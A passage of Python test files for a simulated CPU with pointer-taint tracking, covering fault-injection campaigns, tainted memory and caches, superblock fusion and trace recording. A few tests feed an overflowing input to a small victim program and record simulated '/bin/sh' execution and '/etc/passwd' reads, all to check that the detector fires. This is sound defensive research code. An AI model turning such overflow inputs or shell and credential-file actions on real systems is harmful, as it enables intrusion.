        assert first.digest() == second.digest()
        assert [r.key() for r in first.records] == [
            r.key() for r in second.records
        ]

    def test_different_seed_different_plan(self):
        first = mini_campaign(seed=5, trials=30).run()
        second = mini_campaign(seed=6, trials=30).run()
        assert first.digest() != second.digest()

    def test_snapshot_reuse_matches_rebuild(self):
        """Rolling back one machine vs rebuilding per trial must classify
        every trial identically -- the rollback leaks nothing."""
        reused = mini_campaign(seed=9, trials=15, reuse_snapshots=True).run()
        rebuilt = mini_campaign(
            seed=9, trials=15, reuse_snapshots=False
        ).run()
        assert [r.key() for r in reused.records] == [
            r.key() for r in rebuilt.records
        ]

    def test_every_trial_is_classified(self):
        result = mini_campaign(seed=3, trials=40).run()
        assert len(result.records) == 40
        assert all(r.outcome in OUTCOMES for r in result.records)
        assert sum(result.counts.values()) == 40


class TestOutcomeTaxonomy:
    def test_sign_bit_register_sweep_reaches_crash_and_timeout(self):
        """Flipping the sign bit of every register at the midpoint finds a
        crasher (frame pointer -> wild return) and a runaway (loop counter
        -> watchdog timeout), alongside masked and SDC trials."""
        result = mini_campaign(
            schedule=midpoint_sweep("reg", 1 << 31)
        ).run()
        outcomes = {r.outcome for r in result.records}
        assert OUTCOME_CRASH in outcomes
        assert OUTCOME_TIMEOUT in outcomes
        assert OUTCOME_MASKED in outcomes
        assert OUTCOME_SDC in outcomes

    def test_taint_sweep_is_detected(self):
        """Tainting a live pointer register trips the detector at the next
        dereference -- the detector observes taint-shadow corruption."""
        result = mini_campaign(
            schedule=midpoint_sweep("taint-reg", 0xF)
        ).run()
        detected = [
            r for r in result.records if r.outcome == OUTCOME_DETECTED
        ]
        assert detected
        assert all("alert" in r.detail for r in detected)

    def test_timeout_trials_report_watchdog_reason(self):
        result = mini_campaign(schedule=midpoint_sweep("reg", 1 << 31)).run()
        timeouts = [
            r for r in result.records if r.outcome == OUTCOME_TIMEOUT
        ]
        assert timeouts
        assert all("watchdog[instructions]" in r.detail for r in timeouts)

    def test_unfired_fault_is_masked(self):
        golden = mini_campaign(schedule=[]).run().golden
        schedule = [
            (
                Trigger("insn", golden.instructions + 999),
                FaultSpec("reg", 8, 1),
            )
        ]
        result = mini_campaign(schedule=schedule).run()
        record = result.records[0]
        assert record.outcome == OUTCOME_MASKED
        assert not record.injected

    def test_syscall_faults_fire_in_kernel(self):
        schedule = [
            (Trigger("syscall", 3), FaultSpec("syscall-errno")),
            (Trigger("syscall", 3), FaultSpec("syscall-short-read")),
            (Trigger("syscall", 3), FaultSpec("syscall-truncate")),
        ]
        result = mini_campaign(schedule=schedule).run()
        assert all(r.injected for r in result.records)
        # Perturbed input changes the printed checksum: silent corruption.
        assert [r.outcome for r in result.records] == [OUTCOME_SDC] * 3

    def test_trial_completed_events(self):
        completed = []
        campaign = mini_campaign(schedule=midpoint_sweep("reg", 1))
        # With snapshot reuse the campaign drives a single machine; hook
        # its bus as soon as it is built.
        original = campaign._make_machine

        def hooked():
            sim, kernel = original()
            sim.events.subscribe(TrialCompleted, completed.append)
            return sim, kernel

        campaign._make_machine = hooked
        result = campaign.run()
        assert len(completed) == len(result.records)
        assert [e.outcome for e in completed] == [
            r.outcome for r in result.records
        ]


class TestRecoveryPolicies:
    def test_rollback_retry_restores_clean_prefault_state(self):
        """The acceptance demo: a taint-bitmap flip is detected, the
        machine rolls back to the pre-fault checkpoint, and the fault-free
        retry reproduces the golden run exactly."""
        result = mini_campaign(
            schedule=midpoint_sweep("taint-reg", 0xF),
            recovery="rollback-retry",
        ).run()
        detected = [
            r for r in result.records if r.outcome == OUTCOME_DETECTED
        ]
        assert detected
        for record in detected:
            assert record.recovered is True
            assert "rollback-retry reproduced golden" in record.detail
        assert result.recovered_count >= len(detected)

    def test_rollback_retry_covers_crash_and_timeout(self):
        result = mini_campaign(
            schedule=midpoint_sweep("reg", 1 << 31),
            recovery="rollback-retry",
        ).run()
        abnormal = [
            r
            for r in result.records
            if r.outcome in (OUTCOME_CRASH, OUTCOME_TIMEOUT)
        ]
        assert abnormal
        assert all(r.recovered for r in abnormal)

    def test_kill_process_marks_detail(self):
        result = mini_campaign(
            schedule=midpoint_sweep("taint-reg", 0xF),
            recovery="kill-process",
        ).run()
        detected = [
            r for r in result.records if r.outcome == OUTCOME_DETECTED
        ]
        assert detected
        assert all("process killed" in r.detail for r in detected)
        assert all(r.recovered is None for r in detected)

    def test_halt_leaves_no_recovery_marks(self):
        result = mini_campaign(
            schedule=midpoint_sweep("taint-reg", 0xF), recovery="halt"
        ).run()
        assert all(r.recovered is None for r in result.records)


class TestEngineAgreement:
    def test_functional_and_pipeline_classify_identically(self):
        """Both engines retire the same instruction stream, so a fixed
        fault schedule must produce the same outcome sequence."""
        schedule = midpoint_sweep("taint-reg", 0xF)[:8] + midpoint_sweep(
            "reg", 1 << 31
        )[:8]
        functional = mini_campaign(
            schedule=schedule, engine="functional"
        ).run()
        pipeline = mini_campaign(schedule=schedule, engine="pipeline").run()
        assert [r.outcome for r in functional.records] == [
            r.outcome for r in pipeline.records
        ]
        assert [r.injected for r in functional.records] == [
            r.injected for r in pipeline.records
        ]


class TestCampaignConfigValidation:
    def test_rejects_unknown_engine(self):
        with pytest.raises(ValueError, match="engine"):
            CampaignConfig(engine="quantum")

    def test_rejects_unknown_recovery(self):
        with pytest.raises(ValueError, match="recovery"):
            CampaignConfig(recovery="pray")

    def test_rejects_unknown_kinds(self):
        with pytest.raises(ValueError, match="kinds"):
            CampaignConfig(kinds=("mem", "cosmic-ray"))

    def test_golden_run_must_be_clean(self):
        campaign = FaultCampaign(
            Workload(
                name="looper",
                source="int main(void) { while (1) { } return 0; }",
            ),
            # Tight wall-clock net: the looper must not stall the suite.
            CampaignConfig(trials=1, max_seconds=0.05),
        )
        with pytest.raises(ValueError, match="golden run"):
            campaign.run()

    def test_syscall_kinds_need_input_syscalls(self):
        campaign = FaultCampaign(
            Workload(name="pure", source="int main(void) { return 7; }"),
            CampaignConfig(trials=3, kinds=("syscall-errno",)),
        )
        with pytest.raises(ValueError, match="input"):
            campaign.run()


class TestCampaignCli:
    def test_campaign_command_renders_report(self, tmp_path):
        json_path = tmp_path / "campaign.json"
        out = io.StringIO()
        code = cli_main(
            [
                "campaign",
                "--builtin",
                "exp1",
                "--seed",
                "3",
                "--trials",
                "10",
                "--json",
                str(json_path),
            ],
            out=out,
        )
        assert code == 0
        text = out.getvalue()
        assert "Fault-injection campaign" in text
        assert "Outcome distribution" in text
        import json

        payload = json.loads(json_path.read_text())
        # Unified result schema: {"kind","detected","stats","metrics"}
        # with the reproducibility digest kept at the top level.
        assert payload["kind"] == "campaign"
        assert isinstance(payload["detected"], bool)
        assert payload["stats"]["trials"] == 10
        assert len(payload["stats"]["records"]) == 10
        assert payload["digest"]
        assert payload["digest"] == payload["stats"]["digest"]

    def test_smoke_gate_fails_without_detection(self):
        # exp1 with a syscall-only kind set cannot alert: errno injection
        # never taints a pointer.
        out = io.StringIO()
        code = cli_main(
            [
                "campaign",
                "--builtin",
                "exp1",
                "--seed",
                "3",
                "--trials",
                "5",
                "--kind",
                "syscall-errno",
                "--smoke",
            ],
            out=out,
        )
        assert code == 1
        assert "SMOKE FAIL" in out.getvalue()

    def test_requires_exactly_one_target(self):
        with pytest.raises(SystemExit):
            cli_main(["campaign"], out=io.StringIO())
