"""Tests for the taint-extended memory, register file, and caches."""

import pytest
from hypothesis import given, settings, strategies as st

from repro.core.taint import TaintVector
from repro.mem.cache import Cache, CacheHierarchy
from repro.mem.layout import AddressSpace, PAGE_SIZE, STACK_TOP, TEXT_BASE
from repro.mem.registers import RegisterFile
from repro.mem.tainted_memory import MemoryFault, TaintedMemory


class TestTaintedMemory:
    def test_zero_initialized(self):
        mem = TaintedMemory()
        assert mem.read(0x1000, 4) == (0, 0)

    def test_word_roundtrip_little_endian(self):
        mem = TaintedMemory()
        mem.write(0x1000, 4, 0x12345678)
        assert mem.read(0x1000, 1)[0] == 0x78
        assert mem.read(0x1003, 1)[0] == 0x12

    @pytest.mark.parametrize("size", [1, 2, 4])
    def test_sizes_roundtrip(self, size):
        mem = TaintedMemory()
        value = 0xDEADBEEF & ((1 << (8 * size)) - 1)
        mem.write(0x2000, size, value, taint_mask=(1 << size) - 1)
        assert mem.read(0x2000, size) == (value, (1 << size) - 1)

    def test_bad_size_rejected(self):
        mem = TaintedMemory()
        with pytest.raises(MemoryFault):
            mem.read(0, 3)
        with pytest.raises(MemoryFault):
            mem.write(0, 8, 0)

    def test_taint_travels_with_bytes(self):
        mem = TaintedMemory()
        mem.write(0x1000, 4, 0xAABBCCDD, taint_mask=0b0101)
        value, taint = mem.read(0x1000, 4)
        assert taint == 0b0101
        # Partial reads see the right per-byte bits.
        assert mem.read(0x1000, 1)[1] == 1
        assert mem.read(0x1001, 1)[1] == 0

    def test_overwrite_clears_taint(self):
        mem = TaintedMemory()
        mem.write(0x1000, 4, 1, taint_mask=0xF)
        mem.write(0x1000, 4, 2, taint_mask=0)
        assert mem.read(0x1000, 4) == (2, 0)

    def test_page_straddling_access(self):
        mem = TaintedMemory()
        addr = PAGE_SIZE - 2
        mem.write(addr, 4, 0x11223344, taint_mask=0b1001)
        assert mem.read(addr, 4) == (0x11223344, 0b1001)

    def test_address_wraparound_masked(self):
        mem = TaintedMemory()
        mem.write(0xFFFFFFFF, 1, 0x42)
        assert mem.read(0xFFFFFFFF, 1)[0] == 0x42

    def test_bulk_bytes_roundtrip(self):
        mem = TaintedMemory()
        blob = bytes(range(200))
        mem.write_bytes(0x3000, blob, True)
        assert mem.read_bytes(0x3000, 200) == blob
        assert mem.read_taint(0x3000, 200).is_fully_tainted()

    def test_bulk_write_spanning_pages(self):
        mem = TaintedMemory()
        blob = bytes([7]) * (PAGE_SIZE + 100)
        mem.write_bytes(PAGE_SIZE - 50, blob, False)
        assert mem.read_bytes(PAGE_SIZE - 50, len(blob)) == blob

    def test_write_bytes_with_vector(self):
        mem = TaintedMemory()
        taint = TaintVector.from_flags([True, False, True])
        mem.write_bytes(0x100, b"abc", taint)
        assert list(mem.read_taint(0x100, 3)) == [True, False, True]

    def test_write_bytes_vector_length_mismatch(self):
        mem = TaintedMemory()
        with pytest.raises(MemoryFault):
            mem.write_bytes(0, b"ab", TaintVector.clean(3))

    def test_read_cstring(self):
        mem = TaintedMemory()
        mem.write_bytes(0x500, b"hello\0world")
        assert mem.read_cstring(0x500) == b"hello"

    def test_read_cstring_respects_limit(self):
        mem = TaintedMemory()
        mem.write_bytes(0x500, b"x" * 100)
        assert len(mem.read_cstring(0x500, max_length=10)) == 10

    def test_set_taint_preserves_data(self):
        mem = TaintedMemory()
        mem.write_bytes(0x600, b"data")
        mem.set_taint(0x600, 4, True)
        assert mem.read_bytes(0x600, 4) == b"data"
        assert mem.count_tainted(0x600, 4) == 4
        mem.set_taint(0x601, 2, False)
        assert mem.count_tainted(0x600, 4) == 2

    def test_tainted_write_counter(self):
        mem = TaintedMemory()
        mem.write(0x0, 4, 0, taint_mask=0b11)
        mem.write_bytes(0x10, b"abc", True)
        assert mem.tainted_bytes_written == 5

    @given(
        st.integers(0, 0xFFFFF000),
        st.binary(min_size=1, max_size=300),
        st.booleans(),
    )
    @settings(max_examples=50)
    def test_bulk_roundtrip_property(self, addr, blob, taint):
        mem = TaintedMemory()
        mem.write_bytes(addr, blob, taint)
        assert mem.read_bytes(addr, len(blob)) == blob
        vector = mem.read_taint(addr, len(blob))
        assert vector.is_fully_tainted() if taint else vector.is_clean()

    @given(st.integers(0, 2**32 - 5), st.integers(0, 2**32 - 1),
           st.integers(0, 0xF))
    @settings(max_examples=50)
    def test_word_roundtrip_property(self, addr, value, taint):
        mem = TaintedMemory()
        mem.write(addr, 4, value, taint)
        assert mem.read(addr, 4) == (value, taint)


class TestRegisterFile:
    def test_register_zero_hardwired(self):
        regs = RegisterFile()
        regs.write(0, 0xDEADBEEF, 0xF)
        assert regs.read(0) == (0, 0)
        regs.set_taint(0, 0xF)
        assert regs.taint(0) == 0

    def test_write_read(self):
        regs = RegisterFile()
        regs.write(7, 0x1234, 0b0011)
        assert regs.read(7) == (0x1234, 0b0011)
        assert regs.value(7) == 0x1234
        assert regs.taint(7) == 0b0011

    def test_values_masked_to_32_bits(self):
        regs = RegisterFile()
        regs.write(5, 0x1_0000_0001)
        assert regs.value(5) == 1

    def test_set_taint_only(self):
        regs = RegisterFile()
        regs.write(9, 42, 0xF)
        regs.set_taint(9, 0)
        assert regs.read(9) == (42, 0)

    def test_tainted_registers_listing(self):
        regs = RegisterFile()
        regs.write(3, 1, 0b1)
        regs.write(17, 1, 0b1000)
        assert regs.tainted_registers() == [3, 17]

    def test_dump_marks_tainted(self):
        regs = RegisterFile()
        regs.write(8, 0xABCD, 0xF)
        dump = regs.dump()
        assert "0000abcd*" in dump


class TestCaches:
    def test_read_through_miss_then_hit(self):
        mem = TaintedMemory()
        mem.write(0x1000, 4, 0xCAFEBABE, 0b0110)
        cache = Cache("L1", size=1024, line_size=32, associativity=2,
                      memory=mem)
        assert cache.read(0x1000, 4) == (0xCAFEBABE, 0b0110)
        assert cache.stats.misses == 1
        assert cache.read(0x1000, 4) == (0xCAFEBABE, 0b0110)
        assert cache.stats.hits == 1

    def test_writeback_carries_taint(self):
        mem = TaintedMemory()
        cache = Cache("L1", size=64, line_size=32, associativity=1,
                      memory=mem)
        cache.write(0x0, 4, 0x11, 0xF)          # dirty line A
        cache.read(0x0 + 64, 4)                 # same set, evicts A
        # RAM must now hold both data and taint of the evicted line.
        assert mem.read(0x0, 4) == (0x11, 0xF)

    def test_flush_writes_dirty_lines(self):
        mem = TaintedMemory()
        cache = Cache("L1", size=1024, line_size=32, associativity=2,
                      memory=mem)
        cache.write(0x40, 4, 0x99, 0b0001)
        assert mem.read(0x40, 4) == (0, 0)      # still only in cache
        cache.flush()
        assert mem.read(0x40, 4) == (0x99, 0b0001)

    def test_geometry_validated(self):
        with pytest.raises(ValueError):
            Cache("bad", size=100, line_size=32, associativity=3,
                  memory=TaintedMemory())
        with pytest.raises(ValueError):
            Cache("none", size=64, line_size=32, associativity=1)

    def test_hierarchy_taint_survives_l1_l2_ram_roundtrip(self):
        """Section 4.1: taint passes through the memory hierarchy."""
        mem = TaintedMemory()
        hierarchy = CacheHierarchy(mem, l1_size=64, l2_size=256, line_size=32)
        hierarchy.write(0x2000, 4, 0x61616161, 0xF)
        # Evict through both levels by touching conflicting lines.
        for i in range(1, 40):
            hierarchy.read(0x2000 + i * 64, 4)
        hierarchy.flush()
        assert mem.read(0x2000, 4) == (0x61616161, 0xF)
        # And a fresh hierarchy refetches the taint from RAM.
        fresh = CacheHierarchy(mem, l1_size=64, l2_size=256, line_size=32)
        assert fresh.read(0x2000, 4) == (0x61616161, 0xF)

    def test_hierarchy_unaligned_straddle_bypasses(self):
        mem = TaintedMemory()
        hierarchy = CacheHierarchy(mem)
        hierarchy.write(0x101E, 4, 0x31323334, 0b1111)  # straddles a line
        assert hierarchy.read(0x101E, 4) == (0x31323334, 0b1111)

    def test_hit_rate_statistic(self):
        mem = TaintedMemory()
        cache = Cache("L1", size=1024, line_size=32, associativity=2,
                      memory=mem)
        assert cache.stats.hit_rate == 0.0
        cache.read(0, 4)
        cache.read(0, 4)
        cache.read(0, 4)
        assert cache.stats.hit_rate == pytest.approx(2 / 3)


class TestAddressSpace:
    def test_segment_classification(self):
        space = AddressSpace()
        space.text_end = TEXT_BASE + 0x1000
        space.brk = space.data_base + 0x2000
        assert space.segment_of(TEXT_BASE + 4) == "text"
        assert space.segment_of(space.data_base + 8) == "data/heap"
        assert space.segment_of(STACK_TOP - 64) == "stack"
        assert space.segment_of(0x5000) == "unmapped"
