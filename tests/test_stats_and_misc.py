"""Coverage for statistics, disassembly, process events, and misc APIs."""

import pytest

from repro.attacks.replay import run_minic
from repro.core.policy import PointerTaintPolicy
from repro.cpu.stats import ExecutionStats
from repro.evalx.experiments import run_real_world, run_sec54
from repro.isa.assembler import assemble
from repro.isa.instructions import (
    Instr,
    SPECS,
    disassemble,
    register_name,
    register_number,
)
from repro.kernel.process import CompromiseEvent, ProcessState

from tests.helpers import run_asm


class TestExecutionStats:
    def test_counters_accumulate(self):
        result = run_minic(
            "int main(void) { int i; int s; s = 0;"
            "for (i = 0; i < 10; i++) { s += i; } return s; }"
        )
        stats = result.sim.stats
        assert stats.instructions > 50
        assert stats.branches >= 10
        assert stats.jumps >= 2           # jal main, jr $ra
        assert stats.syscalls >= 1
        assert stats.by_mnemonic["addiu"] > 0
        assert stats.by_class["alu"] > 0

    def test_memory_operations_property(self):
        stats = ExecutionStats(loads=3, stores=4)
        assert stats.memory_operations == 7

    def test_merge(self):
        a = ExecutionStats(instructions=10, loads=1, alerts=1)
        a.by_mnemonic["lw"] = 1
        b = ExecutionStats(instructions=5, loads=2, tainted_dereferences=3)
        b.by_mnemonic["lw"] = 4
        a.merge(b)
        assert a.instructions == 15
        assert a.loads == 3
        assert a.alerts == 1
        assert a.tainted_dereferences == 3
        assert a.by_mnemonic["lw"] == 5

    def test_ratios_guard_division_by_zero(self):
        stats = ExecutionStats()
        assert stats.taint_activity_ratio() == 0.0
        assert stats.software_tainting_overhead() == 0.0

    def test_summary_keys(self):
        summary = ExecutionStats(instructions=1).summary()
        assert summary["instructions"] == 1
        assert "alerts" in summary and "input_bytes_tainted" in summary


class TestDisassembly:
    @pytest.mark.parametrize("name", sorted(SPECS))
    def test_every_format_renders(self, name):
        spec = SPECS[name]
        instr = Instr(name, spec.klass, rd=1, rs=2, rt=3, shamt=4, imm=5,
                      target=0x400000)
        text = disassemble(instr)
        assert text.startswith(name)

    def test_paper_notation_for_memory_ops(self):
        instr = Instr("sw", "store", rt=21, rs=3, imm=0)
        assert disassemble(instr) == "sw $21,0($3)"

    def test_register_name_number_roundtrip(self):
        for number in range(32):
            assert register_number(register_name(number)) == number

    def test_register_number_accepts_bare_names(self):
        assert register_number("sp") == 29
        assert register_number("$s8") == 30   # alias for $fp

    def test_unknown_register_raises(self):
        with pytest.raises(ValueError):
            register_number("$x9")


class TestProcessState:
    def test_event_recording_and_queries(self):
        state = ProcessState()
        state.record("exec", "/bin/sh")
        state.record("open", "/etc/passwd")
        assert state.executed_programs() == ["/bin/sh"]
        assert str(state.events[1]) == "open(/etc/passwd)"

    def test_stdout_text_decoding(self):
        state = ProcessState()
        state.stdout.extend(b"caf\xe9")
        assert state.stdout_text == "caf\xe9"

    def test_compromise_event_str(self):
        assert str(CompromiseEvent("setuid", "0")) == "setuid(0)"


class TestRunnersCoverage:
    def test_run_real_world_records(self):
        records = run_real_world(policies=(PointerTaintPolicy(),))
        assert len(records) == 4
        assert all(r.detected for r in records)
        names = {r.scenario for r in records}
        assert "wuftpd-site-exec" in names

    def test_run_sec54_single_workload(self):
        from repro.apps.spec import workload_by_name

        rows = run_sec54(workloads=[workload_by_name("MCF")])
        assert len(rows) == 1
        row = rows[0]
        assert row.instructions_tracking == row.instructions_no_tracking
        assert 0 < row.software_overhead_pct < 100


class TestTraceHook:
    def test_trace_hook_sees_every_instruction(self):
        source = (
            ".text\n_start:\nli $t0, 3\nli $t1, 4\nadd $t2, $t0, $t1\n"
            "li $v0, 1\nli $a0, 0\nsyscall\n"
        )
        from repro.core.policy import NullPolicy
        from repro.cpu.simulator import Simulator
        from repro.kernel.syscalls import Kernel

        exe = assemble(source)
        kernel = Kernel()
        sim = Simulator(exe, NullPolicy(), syscall_handler=kernel)
        kernel.attach(sim)
        seen = []
        sim.trace_hook = lambda s, pc, instr: seen.append(instr.name)
        sim.run()
        assert seen == ["addiu", "addiu", "add", "addiu", "addiu", "syscall"]

    def test_halt_is_idempotent_state(self):
        sim, status = run_asm(
            ".text\n_start:\nli $v0, 1\nli $a0, 9\nsyscall\n"
        )
        assert sim.halted
        assert sim.exit_status == status == 9
