"""Superblock tier and ExecOptions: fusion, SMC invalidation, digests.

Covers the ISSUE 8 contract: the fused dispatch tier is a pure
optimisation (byte-identical results with it on or off, across taint
modes and pool widths), self-modifying-code writes force re-fusion
without changing results, and the consolidated ``ExecOptions`` bundle
validates once while the legacy kwargs warn exactly once per process.
"""

from __future__ import annotations

import ast
import pathlib
import warnings

import pytest

import repro
import repro.api as api
from repro import ExecOptions, Session
from repro.builder import build_machine
from repro.isa.assembler import assemble
from repro.mem.layout import TEXT_BASE

#: Campaign digest pinned in CI (exp3, seed 11, 25 trials); any change
#: to executed semantics -- including a superblock bug -- moves it.
PINNED_EXP3_DIGEST = (
    "9b0588e410ed0e9184188b6567b5305abf6f4b56023b4c3a48c6e35f79829e4b"
)

#: A straight-line-heavy loop: 50 iterations of pure ALU work ending in
#: a branch, so the fused tier builds blocks once and replays them.
LOOP_PROGRAM = """
.text
_start:
    li $t0, 0
    li $t1, 50
loop:
    addiu $t0, $t0, 3
    xor $t2, $t0, $t1
    addiu $t1, $t1, -1
    bne $t1, $zero, loop
    move $a0, $t0
    li $v0, 1
    syscall
"""

#: Same loop shape, but every iteration stores into the text segment
#: (classic SMC pattern).  Semantics come from the immutable predecode,
#: so the answer must not change -- but each store must drop the fused
#: blocks and force a rebuild.
SMC_PROGRAM = f"""
.text
_start:
    li $t0, {TEXT_BASE}
    li $t1, 4
    li $t2, 0
loop:
    sw $t2, 0($t0)
    addiu $t2, $t2, 5
    addiu $t1, $t1, -1
    bne $t1, $zero, loop
    move $a0, $t2
    li $v0, 1
    syscall
"""


def _run(source: str, superblocks: bool):
    sim, _kernel = build_machine(
        assemble(source), None, superblocks=superblocks
    )
    status = sim.run(max_instructions=100_000)
    return sim, status


class TestFusionTier:
    def test_fused_matches_unfused(self):
        fused, fused_status = _run(LOOP_PROGRAM, superblocks=True)
        plain, plain_status = _run(LOOP_PROGRAM, superblocks=False)
        assert fused_status == plain_status == 150
        assert fused.stats.instructions == plain.stats.instructions
        assert fused.regs.snapshot() == plain.regs.snapshot()

    def test_cache_populates_and_replays(self):
        sim, _ = _run(LOOP_PROGRAM, superblocks=True)
        info = sim.superblocks.info()
        assert info["size"] == info["built"] >= 2
        # 50 loop iterations through a handful of blocks: nearly every
        # dispatch is a replay of an already-fused block.
        assert info["hits"] > info["built"]
        assert info["invalidated"] == 0

    def test_disabled_tier_builds_nothing(self):
        sim, _ = _run(LOOP_PROGRAM, superblocks=False)
        assert sim.superblocks.info() == {
            "size": 0, "built": 0, "invalidated": 0, "hits": 0,
        }


class TestSelfModifyingCode:
    def test_text_write_invalidates_and_refuses(self):
        sim, status = _run(SMC_PROGRAM, superblocks=True)
        info = sim.superblocks.info()
        # One invalidation per store into the text segment.
        assert info["invalidated"] == 4
        # The loop body re-fuses after each flush: strictly more builds
        # than the cache holds at exit.
        assert info["built"] > info["size"] >= 1
        assert status == 20

    def test_smc_results_identical_without_fusion(self):
        fused, fused_status = _run(SMC_PROGRAM, superblocks=True)
        plain, plain_status = _run(SMC_PROGRAM, superblocks=False)
        assert fused_status == plain_status == 20
        assert fused.stats.instructions == plain.stats.instructions
        assert fused.regs.snapshot() == plain.regs.snapshot()


class TestCampaignDigestInvariance:
    """The CI-pinned exp3 digest must be reachable in every mode."""

    def _digest(self, **fields) -> str:
        session = Session(options=ExecOptions(**fields))
        result = session.run_campaign(builtin="exp3", seed=11, trials=25)
        return result.digest()

    def test_pinned_digest_with_superblocks(self):
        assert self._digest(superblocks=True) == PINNED_EXP3_DIGEST

    def test_pinned_digest_without_superblocks(self):
        assert self._digest(superblocks=False) == PINNED_EXP3_DIGEST

    def test_pinned_digest_across_taint_mode_and_workers(self):
        digest = self._digest(
            superblocks=True, taint_labels=True, workers=2
        )
        assert digest == PINNED_EXP3_DIGEST


class TestExecOptionsValidation:
    def test_unknown_engine_rejected(self):
        with pytest.raises(ValueError, match="unknown engine"):
            ExecOptions(engine="vliw")

    def test_unknown_defense_rejected(self):
        with pytest.raises(ValueError, match="unknown defense"):
            ExecOptions(defense="prayer")

    def test_unknown_policy_rejected(self):
        with pytest.raises(ValueError, match="unknown policy"):
            ExecOptions(policy="hope")

    def test_bounds_rejected(self):
        with pytest.raises(ValueError, match="workers"):
            ExecOptions(workers=-1)
        with pytest.raises(ValueError, match="max_instructions"):
            ExecOptions(max_instructions=0)
        with pytest.raises(ValueError, match="superblocks"):
            ExecOptions(superblocks="yes")

    def test_coerce_accepts_dict_and_rejects_unknown_field(self):
        opts = ExecOptions.coerce({"engine": "pipeline", "workers": 2})
        assert opts.engine == "pipeline" and opts.workers == 2
        with pytest.raises(ValueError, match="unknown ExecOptions field"):
            ExecOptions.coerce({"turbo": True})

    def test_merged_revalidates(self):
        base = ExecOptions()
        assert base.merged(superblocks=False).superblocks is False
        with pytest.raises(ValueError):
            base.merged(engine="vliw")


class TestLegacyKwargAliases:
    def test_mixing_options_and_kwargs_raises(self):
        with pytest.raises(ValueError, match="not both"):
            Session(options=ExecOptions(), use_caches=True)

    def test_legacy_kwarg_warns_exactly_once_per_process(self):
        saved = set(api._warned_legacy_kwargs)
        api._warned_legacy_kwargs.clear()
        try:
            with warnings.catch_warnings(record=True) as caught:
                warnings.simplefilter("always")
                Session(use_caches=False)
                Session(use_caches=True)
            hits = [
                w for w in caught
                if issubclass(w.category, DeprecationWarning)
                and "use_caches=" in str(w.message)
            ]
            assert len(hits) == 1
        finally:
            api._warned_legacy_kwargs.clear()
            api._warned_legacy_kwargs.update(saved)

    def test_options_path_is_warning_free(self):
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            session = Session(options=ExecOptions(use_caches=True))
            assert session.use_caches is True
        assert not [
            w for w in caught
            if issubclass(w.category, DeprecationWarning)
        ]


class TestNoInternalShimImports:
    """No module under ``repro`` may import the deprecated shims."""

    SHIMS = {"repro.core.taint", "repro.core.detector", "repro.core.policy"}

    @staticmethod
    def _resolve(module: str, is_package: bool, node: ast.ImportFrom) -> str:
        if node.level == 0:
            return node.module or ""
        parts = module.split(".")
        if not is_package:
            parts = parts[:-1]
        parts = parts[: len(parts) - (node.level - 1)]
        if node.module:
            parts.append(node.module)
        return ".".join(parts)

    def test_repro_modules_avoid_shims(self):
        pkg_root = pathlib.Path(repro.__file__).parent
        offenders = []
        for path in sorted(pkg_root.rglob("*.py")):
            rel = path.relative_to(pkg_root.parent)
            is_package = rel.name == "__init__.py"
            module = ".".join(rel.with_suffix("").parts)
            if is_package:
                module = module[: -len(".__init__")]
            if module in self.SHIMS:
                continue  # the shims themselves
            tree = ast.parse(path.read_text(), filename=str(path))
            for node in ast.walk(tree):
                if isinstance(node, ast.Import):
                    for alias in node.names:
                        if alias.name in self.SHIMS:
                            offenders.append((str(rel), alias.name))
                elif isinstance(node, ast.ImportFrom):
                    base = self._resolve(module, is_package, node)
                    if base in self.SHIMS:
                        offenders.append((str(rel), base))
                    for alias in node.names:
                        dotted = f"{base}.{alias.name}"
                        if dotted in self.SHIMS:
                            offenders.append((str(rel), dotted))
        assert not offenders, (
            f"internal modules still import deprecated shims: {offenders}"
        )
