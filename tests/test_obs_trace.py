"""Trace recorder: JSONL schema, ring bounds, filtering, CLI rendering."""

import io
import json

import pytest

from repro.api import Session, TraceConfig
from repro.cli import main as cli_main
from repro.core.events import (
    EVENT_TYPES,
    InstructionRetired,
    SyscallEnter,
    TaintPropagated,
    TaintedDereference,
)
from repro.obs.trace import (
    DEFAULT_TRACE_EVENTS,
    TraceRecorder,
    read_trace,
    render_trace,
    resolve_event_types,
    summarize_trace,
)

VICTIM = """
int main(void) {
    char buf[10];
    scan_string(buf);
    return 0;
}
"""
ATTACK = b"a" * 24


def run_traced(tmp_path, **trace_kwargs):
    path = str(tmp_path / "trace.jsonl")
    session = Session(trace=TraceConfig(path=path, **trace_kwargs))
    result = session.run_minic(VICTIM, stdin=ATTACK)
    return session, result, path


class TestEventSelection:
    def test_default_excludes_instruction_retired(self):
        assert InstructionRetired not in DEFAULT_TRACE_EVENTS
        assert set(DEFAULT_TRACE_EVENTS) == set(EVENT_TYPES) - {
            InstructionRetired
        }

    def test_all_keyword(self):
        assert resolve_event_types("all") == EVENT_TYPES

    def test_csv_names_case_insensitive(self):
        resolved = resolve_event_types("syscallenter, TaintPropagated")
        assert resolved == (SyscallEnter, TaintPropagated)

    def test_unknown_name_rejected(self):
        with pytest.raises(ValueError, match="unknown event name"):
            resolve_event_types("NoSuchEvent")

    def test_classes_pass_through_and_dedupe(self):
        assert resolve_event_types(
            [SyscallEnter, "SyscallEnter"]
        ) == (SyscallEnter,)


class TestRecording:
    def test_stream_and_ring_agree(self, tmp_path):
        session, result, path = run_traced(tmp_path)
        assert result.detected
        streamed = list(read_trace(path))
        assert streamed == session.last_trace.records
        assert streamed, "attack run must produce trace records"

    def test_schema_every_record_has_seq_and_event(self, tmp_path):
        _, _, path = run_traced(tmp_path)
        seqs = []
        for record in read_trace(path):
            assert isinstance(record["seq"], int)
            assert isinstance(record["event"], str)
            seqs.append(record["seq"])
        assert seqs == list(range(1, len(seqs) + 1))

    def test_tainted_dereference_record_carries_alert(self, tmp_path):
        _, result, path = run_traced(tmp_path)
        derefs = [
            r for r in read_trace(path) if r["event"] == "TaintedDereference"
        ]
        assert len(derefs) == 1
        record = derefs[0]
        assert record["pointer"] == result.alert.pointer_value
        assert record["kind"] == "jump"
        assert record["pc"] == result.alert.pc

    def test_ring_is_bounded(self, tmp_path):
        session, _, _ = run_traced(tmp_path, limit=5)
        tracer = session.last_trace
        assert len(tracer.records) == 5
        assert tracer.seq > 5  # more events fired than the ring holds
        assert tracer.records[-1]["seq"] == tracer.seq

    def test_event_subset_only_records_requested(self, tmp_path):
        session, _, _ = run_traced(tmp_path, events="SyscallEnter")
        names = {r["event"] for r in session.last_trace.records}
        assert names == {"SyscallEnter"}

    def test_counts_track_per_type(self, tmp_path):
        session, _, path = run_traced(tmp_path)
